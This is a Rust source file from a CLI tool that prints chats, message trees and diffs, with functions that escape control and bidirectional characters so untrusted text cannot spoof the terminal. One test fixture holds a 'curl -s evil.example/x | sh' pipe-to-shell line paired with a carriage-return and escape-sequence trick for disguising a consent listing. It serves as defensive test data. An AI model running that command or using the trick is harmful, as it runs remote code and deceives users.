//! Printing: text for people, `--json` for programs.
#![allow(clippy::print_stdout)]

use std::collections::HashMap;
use std::io::Write;

use atelier_core::model::{Chat, FileListing, Message, MessageNode, Role, WorkspaceDiff};
use serde::Serialize;

/// Prints a record as pretty JSON.
pub(crate) fn json<T: Serialize>(value: &T) -> anyhow::Result<()> {
    let mut out = std::io::stdout().lock();
    serde_json::to_writer_pretty(&mut out, value)?;
    writeln!(out)?;
    Ok(())
}

/// Text from a bundle or a server, safe on a terminal: control characters
/// (a `\r` or an escape sequence could redraw the line above, making a
/// consent listing read as something harmless) and the bidirectional
/// controls that reorder what is shown are written as escapes.
pub(crate) fn shown(s: &str) -> std::borrow::Cow<'_, str> {
    let hidden = |c: char| {
        c.is_control()
            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    if !s.chars().any(hidden) {
        return s.into();
    }
    s.chars()
        .map(|c| match c {
            '\n' => "\\n".to_owned(),
            '\r' => "\\r".to_owned(),
            '\t' => "\\t".to_owned(),
            c if hidden(c) => format!("\\u{{{:x}}}", c as u32),
            c => c.to_string(),
        })
        .collect::<String>()
        .into()
}

/// A command's argument as a shell would need it: plain when it is one
/// word of safe characters, else in single quotes (so `a b` is not read as
/// two arguments), with what [`shown`] escapes escaped.
pub(crate) fn arg(a: &str) -> String {
    let plain = !a.is_empty() && a.chars().all(|c| c.is_alphanumeric() || "-_./:=@%+,${}".contains(c));
    if plain {
        a.to_owned()
    } else {
        format!("'{}'", shown(&a.replace('\'', "'\\''")))
    }
}

/// The error and its causes on one line, each said once: the core's I/O
/// errors already end with their OS error ("could not read x: No such
/// file…"), which the chain would repeat.
/// Text of several lines (a problem list, a description, a traceback, an
/// error): each line escaped as [`shown`], the line breaks kept.
pub(crate) fn shown_lines(s: &str) -> String {
    s.lines().map(shown).collect::<Vec<_>>().join("\n")
}

/// An error and its causes on one line, each said once; what a bundle, a
/// server or a model put in it reaches the terminal escaped ([`shown`]).
pub(crate) fn error_line(e: &anyhow::Error) -> String {
    let mut line = String::new();
    for cause in e.chain() {
        let text = cause.to_string();
        if !line.contains(&text) {
            if !line.is_empty() {
                line.push_str(": ");
            }
            line.push_str(&text);
        }
    }
    shown_lines(&line)
}

/// Whether the error is a write to a closed pipe (`atelier … | head`).
pub(crate) fn is_broken_pipe(e: &anyhow::Error) -> bool {
    // `--json` writes through serde_json, which wraps the I/O error.
    e.chain().any(|c| {
        c.downcast_ref::<std::io::Error>()
            .is_some_and(|io| io.kind() == std::io::ErrorKind::BrokenPipe)
            || c.downcast_ref::<serde_json::Error>()
                .is_some_and(|j| j.io_error_kind() == Some(std::io::ErrorKind::BrokenPipe))
    })
}

pub(crate) fn chat(c: &Chat) {
    println!("{}  {}", c.id, c.title);
    println!("  created {}  updated {}", c.created_at, c.updated_at);
    println!(
        "  active leaf {}  manifest {}",
        c.active_leaf_message_id, c.active_manifest_id
    );
}

pub(crate) fn chat_list(chats: &[Chat]) {
    if chats.is_empty() {
        println!("No chats yet. Start one with `atelier chat new --title \"…\"`.");
        return;
    }
    for c in chats {
        println!("{}  {:<32}  {}", c.id, truncate(&c.title, 32), c.updated_at);
    }
}

fn role(r: Role) -> &'static str {
    match r {
        Role::System => "system",
        Role::User => "user",
        Role::Assistant => "assistant",
        Role::Tool => "tool",
        Role::Edit => "edit",
    }
}

fn truncate(s: &str, max: usize) -> String {
    let one_line = s.replace('\n', " ⏎ ");
    if one_line.chars().count() <= max {
        one_line
    } else {
        let mut t: String = one_line.chars().take(max.saturating_sub(1)).collect();
        t.push('…');
        t
    }
}

pub(crate) fn message(m: &Message) {
    println!(
        "{}  {:<9} {}{}",
        m.id,
        role(m.role),
        truncate(&m.text(), 80),
        ended(m).map(|e| format!("  [{e}]")).unwrap_or_default()
    );
}

/// How a model's turn ended when it did not end well: stopped, cut at the
/// output limit, failed (with its kind), interrupted, at the step limit.
fn ended(m: &Message) -> Option<String> {
    let meta = m.meta.as_ref()?;
    match (meta.status.as_deref()?, meta.error_kind.as_deref()) {
        ("complete", _) => None,
        ("failed", Some("output_limit")) => Some("cut at the output limit".to_owned()),
        ("failed", Some("refused")) => Some("declined by the model or a content filter".to_owned()),
        ("failed", Some(kind)) => Some(format!("failed: {kind}")),
        ("step_limit", _) => Some("step limit".to_owned()),
        (status, _) => Some(status.to_owned()),
    }
}

pub(crate) fn branch(messages: &[Message]) {
    for m in messages {
        message(m);
    }
}

/// Draws the message tree; `*` marks the active leaf, `●` the active branch.
pub(crate) fn tree(nodes: &[MessageNode], active_leaf: &str) {
    let by_id: HashMap<&str, &MessageNode> = nodes.iter().map(|n| (n.message.id.as_str(), n)).collect();
    for root in nodes.iter().filter(|n| n.message.parent_id.is_none()) {
        draw(root, &by_id, active_leaf, "", "");
    }
}

fn draw(node: &MessageNode, by_id: &HashMap<&str, &MessageNode>, leaf: &str, first: &str, rest: &str) {
    let mark = if node.message.id == leaf {
        "*"
    } else if node.on_active_branch {
        "●"
    } else {
        "○"
    };
    let m = &node.message;
    println!(
        "{first}{mark} {}  {:<9} {}",
        m.id,
        role(m.role),
        truncate(&m.text(), 60)
    );
    let n = node.children.len();
    for (i, child) in node.children.iter().enumerate() {
        let Some(c) = by_id.get(child.as_str()) else {
            continue;
        };
        let last = i + 1 == n;
        let (f, r) = if last { ("└─ ", "   ") } else { ("├─ ", "│  ") };
        draw(c, by_id, leaf, &format!("{rest}{f}"), &format!("{rest}{r}"));
    }
}

pub(crate) fn files(files: &[FileListing]) {
    if files.is_empty() {
        println!("(empty workspace)");
        return;
    }
    for f in files {
        let x = if f.executable { "x" } else { "-" };
        println!("{x} {:>10}  {}  {}", f.size, &f.sha256[..12], f.path);
    }
}

pub(crate) fn diff(d: &WorkspaceDiff) {
    if d.added.is_empty() && d.removed.is_empty() && d.modified.is_empty() {
        println!("(no differences)");
        return;
    }
    for p in &d.added {
        println!("A {p}");
    }
    for p in &d.removed {
        println!("D {p}");
    }
    for m in &d.modified {
        let mode = match (m.mode_from, m.mode_to) {
            (Some(a), Some(b)) => format!(" (mode {a:04o} → {b:04o})"),
            _ => String::new(),
        };
        let note = if m.mode_only {
            mode.as_str()
        } else if m.binary {
            " (binary)"
        } else if m.too_large {
            " (too large to diff)"
        } else {
            ""
        };
        println!("M {}{note}", m.path);
    }
    for m in &d.modified {
        if let Some(text) = &m.diff {
            print!("\n{text}");
        }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_turn_that_did_not_end_well_says_how() {
        use atelier_core::model::{Message, Role, TurnMeta};
        let turn = |status: &str, kind: Option<&str>| Message {
            id: "m".into(),
            chat_id: "c".into(),
            parent_id: None,
            role: Role::Assistant,
            content: Vec::new(),
            manifest_id: "x".into(),
            created_at: String::new(),
            meta: Some(TurnMeta {
                provider_id: None,
                model: None,
                usage: None,
                status: Some(status.into()),
                error: None,
                error_kind: kind.map(str::to_owned),
            }),
            thread_id: None,
        };
        assert_eq!(super::ended(&turn("complete", None)), None);
        assert_eq!(super::ended(&turn("stopped", None)).as_deref(), Some("stopped"));
        assert_eq!(
            super::ended(&turn("failed", Some("output_limit"))).as_deref(),
            Some("cut at the output limit")
        );
        assert_eq!(
            super::ended(&turn("failed", Some("network"))).as_deref(),
            Some("failed: network")
        );
    }

    #[test]
    fn bundle_text_cannot_redraw_the_terminal_or_split_arguments() {
        let spoof = "curl -s evil.example/x | sh\r\u{1b}[2K  mcp     fs   npx server-filesystem";
        let out = super::shown(spoof);
        assert!(!out.contains('\r') && !out.contains('\u{1b}'), "{out}");
        assert!(out.contains("\\r\\u{1b}[2K"), "{out}");
        assert_eq!(super::shown("tools/\u{202e}txt.py"), "tools/\\u{202e}txt.py");
        assert_eq!(super::shown("plain ünïcode"), "plain ünïcode");
        assert_eq!(super::arg("-y"), "-y");
        assert_eq!(super::arg("${__dirname}/run.sh"), "${__dirname}/run.sh");
        assert_eq!(super::arg("a b"), "'a b'");
        assert_eq!(super::arg("it's"), "'it'\\''s'");
        assert_eq!(super::arg(spoof), format!("'{}'", super::shown(spoof)));
    }
}
